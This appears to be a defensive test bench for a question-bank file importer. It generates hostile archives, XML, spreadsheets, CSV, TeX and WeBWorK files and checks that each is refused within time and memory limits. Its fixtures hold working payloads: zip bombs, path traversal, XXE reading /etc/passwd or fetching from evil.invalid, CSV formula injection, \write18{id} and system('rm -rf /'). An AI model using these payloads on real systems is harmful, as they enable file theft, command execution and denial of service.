# ruff: noqa: E501 - files as attackers and broken programs write them
"""Hostile and broken question files, each read in a process of its own: what is said, how soon, with how much memory.

    python -m tests.bench.hostile [--only WORD] [--folder FOLDER]

The gate: each is refused, or read with what is bad named, in at most 5 s of a processor and 300 MB, and no process asks an
address. The files are made here; `--folder` reads a stranger's files instead. `tests/questionbank/formats/test_every_format.py` reads the
small ones.
"""

from __future__ import annotations

import gzip
import io
import json
import re
import socket
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
import zlib
from base64 import b64encode
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.bench.benchmark import gate, read_options

MOST_SECONDS, MOST_MEGABYTES = 5, 300
_LIMIT = 120  # seconds, for the bench itself
_STORED, _PACKED = zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED
ITEM = (
    '<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" identifier="i" title="i" adaptive="false" timeDependent="false">'
    '<responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier"><correctResponse><value>A</value>'
    '</correctResponse></responseDeclaration><itemBody><p>{}</p><choiceInteraction responseIdentifier="RESPONSE" shuffle="false"'
    ' maxChoices="1"><simpleChoice identifier="A">4</simpleChoice><simpleChoice identifier="B">5</simpleChoice>'
    "</choiceInteraction></itemBody></assessmentItem>"
)
QUIZ = '<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n{}\n</quiz>\n'
ESSAY = '<question type="essay"><name><text>Sum</text></name><questiontext format="html"><text><![CDATA[<p>{}</p>]]></text>{}</questiontext></question>'
_MANIFEST = '<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" identifier="m"><organizations/><resources>{}</resources></manifest>'
_RESOURCE = '<resource identifier="r{0}" type="imsqti_item_xmlv2p1" href="{1}"><file href="{1}"/></resource>'
_POOL = (
    '<questestinterop><objectbank ident="b"><item ident="i" title="Q"><presentation><material><mattext>2 + 2?</mattext>'
    "</material></presentation></item></objectbank></questestinterop>"
)


@dataclass(frozen=True, slots=True)
class Case:
    """A file and what must be said of it.

    Attributes:
        make: writes the file.
        says: what the refusal or a warning must match; empty where the file is harmless.
        keeps: how many questions are read all the same; None where the file is refused.
        is_large: whether making or reading it takes long enough to be left to the bench.
    """

    name: str
    make: Callable[[Path], object]
    says: str
    keeps: int | None = None
    is_large: bool = False


def _text(text: str, encoding: str = "utf-8") -> Callable[[Path], object]:
    return lambda path: path.write_bytes(text.encode(encoding))


def _bytes(make: Callable[[], bytes]) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(make())


def zipped(files: Mapping[str, str | bytes], how: int = _PACKED) -> bytes:
    """Return a ZIP archive."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", how) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return stream.getvalue()


def _zip(files: Mapping[str, str | bytes]) -> Callable[[Path], object]:
    return _bytes(lambda: zipped(files))


def _qti(**items: str) -> dict[str, str | bytes]:
    resources = "".join(_RESOURCE.format(number, name) for number, name in enumerate(items))
    return {"imsmanifest.xml": _MANIFEST.format(resources), **items}


def _streamed(member: str, pieces: Callable[[], Iterator[bytes]], **others: str | bytes) -> Callable[[Path], object]:
    """Write an archive with one member that is too large to hold."""

    def make(path: Path) -> None:
        with zipfile.ZipFile(path, "w", _PACKED, compresslevel=1) as archive:
            for name, data in others.items():
                archive.writestr(name.replace("__", "/"), data)
            with archive.open(member, "w", force_zip64=True) as file:
                for piece in pieces():
                    file.write(piece)

    return make


def _megabytes(count: int, piece: bytes = b"\0") -> Iterator[bytes]:
    block = piece * (1024**2 // len(piece))
    for _number in range(count):
        yield block


def _long_item() -> Iterator[bytes]:
    yield ITEM.format("2 + 2?").replace("</assessmentItem>", "").encode()
    yield from _megabytes(1_024, b" ")


def _many_members(path: Path, count: int = 1_000_000) -> None:
    """Write an archive of empty members by hand: the library would take minutes."""
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 33, 0, 0, 0, 12, 0)
    offset, central = 0, io.BytesIO()
    with path.open("wb") as file:
        for number in range(count):
            name = b"q%07d.xml" % number
            file.write(local + name)
            central.write(
                struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 12, 0, 0, 0, 0, 0, offset)
                + name
            )
            offset += 42
        directory = central.getvalue()
        file.write(directory)
        file.write(struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(directory), offset))
        file.write(struct.pack("<4sIQI", b"PK\6\7", 0, offset + len(directory), 1))
        file.write(struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, len(directory), 0xFFFFFFFF, 0))


def _link() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("imsmanifest.xml", _MANIFEST.format(""))
        link = zipfile.ZipInfo("item.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return stream.getvalue()


def _twice() -> bytes:
    data = zipped({"imsmanifest.xml": _MANIFEST.format(""), "one.xml": ITEM.format("1"), "two.xml": ITEM.format("2")})
    return data.replace(b"two.xml", b"one.xml")


def _encrypted() -> bytes:
    data = bytearray(zipped({"item.xml": ITEM.format("2 + 2")}))
    data[6] |= 1
    data[data.index(b"PK\1\2") + 8] |= 1
    return bytes(data)


def _damaged_member() -> bytes:
    data = zipped(_qti(**{"a.xml": ITEM.format("".join(map(str, range(999))))}))
    place = data.index(b"a.xml") + 60
    return data[:place] + b"\xff" * 8 + data[place + 8 :]


def _lying() -> bytes:
    """An archive whose directory says that its member is small."""
    data = bytearray(zipped({"item.xml": ITEM.format("x" * 40_000_000)}))
    struct.pack_into("<I", data, data.index(b"PK\1\2") + 24, 1_000)
    return bytes(data)


def _zip_in_zip() -> bytes:
    inner = zipped({"a.bin": b"\0" * 50_000_000})
    for level in range(4):
        inner = zipped({f"{level}-{number}.zip": inner for number in range(8)})
    return inner


def _tar(*members: tuple[str, bytes, bytes]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for name, kind, data in members:
            entry = tarfile.TarInfo(name)
            entry.type, entry.size = kind, len(data)
            entry.linkname = "/etc/passwd" if kind != tarfile.REGTYPE else ""
            archive.addfile(entry, io.BytesIO(data))
    return stream.getvalue()


def png(width: int, height: int) -> bytes:
    """Return the beginning of a PNG of that size: its header is right, its one row is not all of it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


def gif(frames: int) -> bytes:
    """Return an animation of single pixels."""
    frame = b"\x21\xf9\x04\0\0\0\0\0" + b"\x2c\0\0\0\0\x01\0\x01\0\0" + b"\x02\x02\x44\x01\0"
    return b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff" + frame * frames + b"\x3b"


def _pictured(name: str, data: bytes) -> Callable[[Path], object]:
    file = f'<file name="{name}" path="/" encoding="base64">{b64encode(data).decode()}</file>'
    shown = f'See <img src="@@PLUGINFILE@@/{name}" alt="it"> and say.'
    return _text(QUIZ.format(ESSAY.format(shown, file)))


_SHEET_HEAD = (
    '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_WORKBOOK: dict[str, str | bytes] = {
    "[Content_Types].xml": (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    ),
    "_rels/.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    ),
}


_NAMED = {name.replace("/", "__"): data for name, data in _WORKBOOK.items()}


def _cell(place: str, value: str, formula: str = "") -> str:
    inner = f"<f>{formula}</f><v>{value}</v>" if formula else f"<is><t>{value}</t></is>"
    return f'<c r="{place}" t="{"str" if formula else "inlineStr"}">{inner}</c>'


def _workbook(rows: str) -> dict[str, str | bytes]:
    return {**_WORKBOOK, "xl/worksheets/sheet1.xml": f"{_SHEET_HEAD}{rows}</sheetData></worksheet>"}


def _long_sheet(row: bytes) -> Iterator[bytes]:
    yield f'{_SHEET_HEAD}<row r="1">{_cell("A1", "text")}{_cell("B1", "answer")}</row>'.encode()
    yield from _megabytes(1_024, row)
    yield b"</sheetData></worksheet>"


_ENTITIES = (
    '<!DOCTYPE quiz [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
_UTF7 = '<?xml version="1.0" encoding="UTF-7"?>+ADw-quiz+AD4-+ADw-script+AD4-'

CASES = (
    # -- archives
    Case("ratio_1000.zip", _streamed("item.xml", _long_item), "'item.xml' in it unpacks to", is_large=True),
    Case("zip_in_zip.zip", _bytes(_zip_in_zip), "holds no questions|is a ZIP archive|no file that Kindred reads"),
    Case("million_members.zip", _many_members, "1,000,000 files, more than 50,000", is_large=True),
    Case("lying_directory.zip", _bytes(_lying), "damaged|unpacks to"),
    Case("traversal.zip", _zip({**_qti(**{"a.xml": ITEM.format("1")}), "../../evil.xml": ITEM.format("1")}), r"'../../evil.xml', which leads out"),
    Case("absolute.zip", _zip({**_qti(**{"a.xml": ITEM.format("1")}), "/etc/cron.d/evil.xml": ITEM.format("1")}), "leads out of the archive"),
    Case("drive.zip", _zip({**_qti(**{"a.xml": ITEM.format("1")}), "C:\\evil.xml": ITEM.format("1")}), "leads out of the archive"),
    Case("symlink.zip", _bytes(_link), "'item.xml' in it is a link"),
    Case("name_twice.zip", _bytes(_twice), "two files in it have the name 'one.xml'"),
    Case("no_archive.zip", _text("hello"), "is damaged: it is named like an archive but is not one"),
    Case("beginning_lost.imscc", _bytes(lambda: zipped(_qti(**{"a.xml": ITEM.format("1")}))[10:]), "is damaged: it is named like an archive but is not one"),
    Case("no_members.zip", _zip({}), "is an empty ZIP archive"),
    Case("one_of_several.zip", _bytes(lambda: b"PK\x07\x08" + zipped({"a.xml": ITEM.format("1")})), "one piece of a ZIP archive"),
    Case("damaged_member.zip", _bytes(_damaged_member), "a part of it cannot be unpacked"),
    Case("pool_alone.zip", _zip({"qpl_5/qti_5.xml": _POOL}), "", keeps=1),
    Case("only_a_manifest.xml", _text(_MANIFEST.format("")), "Choose the whole package"),
    Case("encrypted.zip", _bytes(_encrypted), "'item.xml' in it is protected by a password"),
    Case("truncated.zip", _bytes(lambda: zipped(_qti(**{"a.xml": ITEM.format("1")}))[:-60]), "damaged"),
    Case("only_pictures.zip", _zip({"a.png": png(4, 4), "b.png": png(5, 4)}), "archive of pictures"),
    Case("link.tar.gz", _bytes(lambda: _tar(("a.tex", tarfile.SYMTYPE, b""))), "'a.tex' in it is a link"),
    Case("device.tar.gz", _bytes(lambda: _tar(("a.tex", tarfile.CHRTYPE, b""))), "is not a regular file"),
    Case("traversal.tar.gz", _bytes(lambda: _tar(("../a.tex", tarfile.REGTYPE, b"DOCUMENT();"))), "leads out of the archive"),
    Case("bomb.jsonl.gz", lambda path: path.write_bytes(gzip.compress(b'{"text": "1 + 1"}\n' + b"\0" * 300_000_000, 1)), "line 2|more than"),
    Case("no_manifest.zip", _zip({"questions/a.xml": ITEM.format("2 + 2?")}), "", keeps=1),
    Case("missing_items.zip", _zip({"imsmanifest.xml": _MANIFEST.format(_RESOURCE.format(1, "gone.xml") + _RESOURCE.format(2, "a.xml")), "a.xml": ITEM.format("2 + 2?")}), "lacks the file 'gone.xml'", keeps=1),
    Case("broken_manifest.zip", _zip({"imsmanifest.xml": "<manifest><resources>", "a.xml": ITEM.format("1")}), "imsmanifest.xml: line 1 is not well-formed XML"),
    # -- XML
    Case("nested.xml", _text(QUIZ.format("<question type='essay'>" + "<a>" * 50_000)), "more than 200 deep"),
    Case("nested_item.xml", _text(ITEM.format("<b>" * 50_000)), "more than 200 deep"),
    Case("nested_html.xml", _text(QUIZ.format(ESSAY.format("<div>" * 50_000 + "2 + 2?", ""))), "", keeps=1),
    Case("attributes.xml", _text(QUIZ.format("<question " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>")), "more than 64 attributes|tag of more than 1 MB"),
    Case("entities.xml", _text(_ENTITIES + QUIZ.format("&j;").partition("\n")[2]), "<!DOCTYPE"),
    Case("external_dtd.xml", _text('<!DOCTYPE quiz SYSTEM "http://evil.invalid/q.dtd"><quiz/>'), "<!DOCTYPE"),
    Case("external_entity.xml", _text('<!DOCTYPE quiz [<!ENTITY f SYSTEM "file:///etc/passwd">]><quiz><question type="essay">&f;</question></quiz>'), "<!DOCTYPE"),
    Case("parameter_entity.xml", _text('<!DOCTYPE quiz [<!ENTITY % p SYSTEM "http://evil.invalid/p"> %p;]><quiz/>'), "<!DOCTYPE"),
    Case("doctype_utf16.xml", _text("\ufeff<!DOCTYPE quiz [<!ENTITY a 'b'>]><quiz>&a;</quiz>", "utf-16-le"), "<!DOCTYPE"),
    Case("utf7.xml", _text(_UTF7), "is an XML file, which Kindred does not read"),
    Case("utf16_declared_utf8.xml", _text('\ufeff<?xml version="1.0" encoding="UTF-8"?><quiz>' + ESSAY.format("2 + 2?", "") + "</quiz>", "utf-16-le"), "", keeps=1),
    Case("wrong_encoding.xml", _text(QUIZ.format(ESSAY.format("Größe?", "")), "windows-1252"), "not valid utf-8"),
    Case("unknown_encoding.xml", _text('<?xml version="1.0" encoding="x-klingon"?><quiz/>'), "'x-klingon'"),
    Case("cut_off.xml", _text(QUIZ.format(ESSAY.format("2 + 2?", ""))[:-60]), "cut off|not well-formed"),
    Case("nul.xml", _text(QUIZ.format(ESSAY.format("2\0+ 2", ""))), "line 3 .*well-formed"),
    Case("long_text.xml", _text(QUIZ.format(ESSAY.format("x" * 60_000_000, ""))), "more than", is_large=True),
    Case("many_elements.xml", _text(QUIZ.format("<question type='essay'>" + "<a/>" * 2_000_000)), "more than 100,000 elements"),
    Case("xinclude.xml", _text(QUIZ.format(ESSAY.format("2 + 2?", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'))), "", keeps=1),
    # -- pictures
    Case("huge_picture.xml", _pictured("a.png", png(40_000, 40_000)), "40,000 by 40,000 pixels", keeps=1),
    Case("svg.xml", _pictured("a.svg", b'<svg onload="alert(1)"/>'), "SVG picture", keeps=1),
    Case("frames.xml", _pictured("a.gif", gif(10_000)), "10,000 frames", keeps=1),
    Case("renamed_program.xml", _pictured("a.png", b"MZ" + b"\0" * 999), "is not a PNG, JPEG, GIF or WebP", keeps=1),
    Case("cut_picture.xml", _pictured("a.png", png(4, 4)[:20]), "damaged picture", keeps=1),
    # -- tables and JSON
    Case("formulas.xlsx", _zip(_workbook(f'<row r="1">{_cell("A1", "text")}{_cell("B1", "answer")}</row><row r="2">{_cell("A2", "2 + 2?")}{_cell("B2", "4", "WEBSERVICE(&quot;http://evil.invalid&quot;)")}</row>')), "", keeps=1),
    Case("long_sheet.xlsx", _streamed("xl/worksheets/sheet1.xml", lambda: _long_sheet(b"<row>" + _cell("A2", "2 + 2?").encode() + b"</row>"), **_NAMED), "unpacks to 1,0", is_large=True),
    Case("long_row.xlsx", _streamed("xl/worksheets/sheet1.xml", lambda: _long_sheet(_cell("A2", "2 + 2?").encode()), **_NAMED), "unpacks to 1,0", is_large=True),
    Case("far_cell.xlsx", _zip(_workbook(f'<row r="1">{_cell("A1", "text")}</row><row r="1048576">{_cell("XFD1048576", "2 + 2?")}</row>')), "row has 16384 cells, the header 1"),
    Case("entities.xlsx", _zip({**_workbook("&j;"), "xl/sharedStrings.xml": _ENTITIES + "<sst>&j;</sst>", "xl/worksheets/sheet1.xml": _ENTITIES + "<worksheet>&j;</worksheet>"}), "xlsx"),
    Case("formulas.csv", _text("text;answer\n=HYPERLINK(\"http://evil.invalid\");@SUM(1)\n2 + 2?;=cmd|' /C calc'!A0\n"), "", keeps=2),
    Case("nul.csv", _text("text,answer\n2 + 2?,4\n3\0 + 3?,6\n"), "line 3.*NUL|NUL", keeps=1),
    Case("open_quote.csv", _text('text,answer\n"2 + 2?,4\n' + "3 + 3?,6\n" * 20_000), "line 2"),
    Case("deep.json", _text('{"text": "2 + 2?", "grading": ' + "[" * 100_000 + "]" * 100_000 + "}\n"), "line 1|nested"),
    Case("deep_list.json", _text("[" * 100_000 + "]" * 100_000), "deep|nested|JSON"),
    Case("long_line.jsonl", lambda path: path.write_bytes(b'{"text": "' + b"x" * 100_000_000 + b'"}\n{"text": "1 + 1"}\n'), "line 1: .*longer than", keeps=1, is_large=True),
    Case("long_line.csv", lambda path: path.write_bytes(b"text,answer\n" + b"x" * 100_000_000 + b",1\n1 + 1,2\n"), "line 2: .*longer than", keeps=1, is_large=True),
    Case("long_line.gift", lambda path: path.write_bytes(b"::a:: " + b"x" * 100_000_000 + b" {=1}\n"), "line 1|longer|larger", is_large=True),
    Case("digits.jsonl", _text('{"text": "2 + 2?", "difficulty": ' + "9" * 100_000 + "}\n"), "line 1"),
    Case("surrogate.jsonl", _text('{"text": "2 \\ud800 + 2?"}\n'), "line 1"),
    # -- programs and other systems
    Case("answers.gift", _text("What is 2+2? {" + "~=%50%" * 10_000 + "}"), "line 1: the braces hold more than"),
    Case("no_answers.txt", _text("One?\nA. 1\nB. 2\nC. 3\n\n\nTwo?\nA. 1\nB. 2\n"), "looks like an Aiken file, but after line 4 there is no line ANSWER:"),
    Case("braces.tex", _text("\\documentclass{exam}\\begin{document}\\begin{questions}\\question " + "{" * 200_000 + "\\end{questions}\\end{document}"), ""),
    Case("input.tex", _text("\\documentclass{exam}\\begin{document}\\begin{questions}\\question 2 + 2? \\input{/etc/passwd}\\write18{id}\\end{questions}\\end{document}"), "'/etc/passwd' that it includes is not read", keeps=1),
    Case("perl.pg", _text('DOCUMENT();\nsystem("rm -rf /");\nBEGIN_TEXT\n2 + 2 = \\{ans_rule(5)\\}\nEND_TEXT\nENDDOCUMENT();\n'), "is from WeBWorK"),
    Case("braces.gift", _text("::a:: 2 + 2? " + "{" * 500_000), "line 1"),
)  # fmt: skip


def peak_megabytes() -> float:
    """Return the most memory that this program has held; unlike the figure of `getrusage` without its parent's."""
    status = Path("/proc/self/status").read_text(encoding="ascii")
    return int(re.search(r"VmHWM:\s+(\d+)", status)[1]) / 1024  # type: ignore[index]


def _refuse(*_args: object, **_more: object) -> None:
    raise AssertionError("a reader asked an address")


def outcome(path: Path) -> dict[str, Any]:
    """Read a file and return what was said of it, how many questions it gave, seconds and megabytes."""
    from analytics.records import QuestionRecord
    from questionbank.core.errors import ImportRefused
    from questionbank.formats import read

    began, said, questions, refusal = time.process_time(), [], 0, ""
    try:
        file = read(path)
        for _line, entry in file:
            questions += isinstance(entry, QuestionRecord)
            if not isinstance(entry, QuestionRecord) and len(said) < 20:
                said.append(str(entry)[:300])
        said += file.notes
    except ImportRefused as error:
        refusal = str(error)
    seconds = time.process_time() - began
    return {"refusal": refusal, "said": said, "questions": questions, "seconds": seconds, "megabytes": peak_megabytes()}


def fault(case: Case, found: Mapping[str, Any]) -> str:
    """Return what is wrong with what was said of a file, or nothing."""
    refusal = found["refusal"]
    said = "\n".join([refusal, *found["said"]])
    if "\n" in refusal or len(refusal) > 400:
        return f"no single sentence: {refusal[:500]!r}"
    if case.says and not re.search(case.says, said):
        return f"it said {said[:300]!r}, not {case.says!r}"
    if case.keeps is not None and found["questions"] != case.keeps:
        return f"{found['questions']} questions, not {case.keeps}: {said[:200]}"
    return "" if case.keeps is not None or refusal or found["said"] or not case.says else "nothing was said"


def in_process(path: Path) -> dict[str, Any]:
    """Read a file in a process of its own."""
    command = [sys.executable, "-m", "tests.bench.hostile", "--child", "--file", str(path)]
    try:
        done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=_LIMIT)
    except subprocess.TimeoutExpired:
        return {"refusal": "", "said": [], "questions": 0, "seconds": _LIMIT, "megabytes": 0.0}
    if done.returncode:
        lines = done.stderr.splitlines() or [f"signal {-done.returncode}"]
        return {"refusal": f"CRASHED\n{lines[-1]}", "said": [], "questions": 0, "seconds": 0.0, "megabytes": 0.0}
    found: dict[str, Any] = json.loads(done.stdout.splitlines()[-1])
    return found


def main() -> int:
    """Print a line a file; the exit code is 1 where one misses the gate."""
    options = read_options(only="", folder="", file=Path(), child=False)
    if options.child:
        socket.socket.connect = _refuse  # type: ignore[method-assign, assignment]
        print(json.dumps(outcome(options.file)))
        return 0
    missed = worst_seconds = worst_megabytes = 0.0
    with tempfile.TemporaryDirectory() as scratch:
        cases = list(CASES)
        if options.folder:
            cases = [
                Case(path.name, lambda _path: None, "")
                for path in sorted(Path(options.folder).iterdir())
                if path.is_file()
            ]
        for case in cases:
            if options.only not in case.name:
                continue
            path = Path(options.folder or scratch) / case.name
            case.make(path)
            found = in_process(path)
            wrong = fault(case, found)
            if found["seconds"] > MOST_SECONDS or found["megabytes"] > MOST_MEGABYTES:
                wrong += " too slow or too large"
            missed += bool(wrong)
            worst_seconds, worst_megabytes = (
                max(worst_seconds, found["seconds"]),
                max(worst_megabytes, found["megabytes"]),
            )
            shown = found["refusal"] or "; ".join(found["said"]) or f"{found['questions']} questions"
            print(
                f"{'MISSED' if wrong else 'ok':6} {case.name:26} {found['seconds']:6.2f} s {found['megabytes']:5.0f} MB  {wrong or shown[:200]}",
                flush=True,
            )
            if not options.folder:
                path.unlink()
    print(f"{len(cases)} files, at most {worst_seconds:.1f} s and {worst_megabytes:.0f} MB")
    return gate(f"{MOST_SECONDS} s, {MOST_MEGABYTES} MB and a sentence for each", not missed)


if __name__ == "__main__":
    raise SystemExit(main())
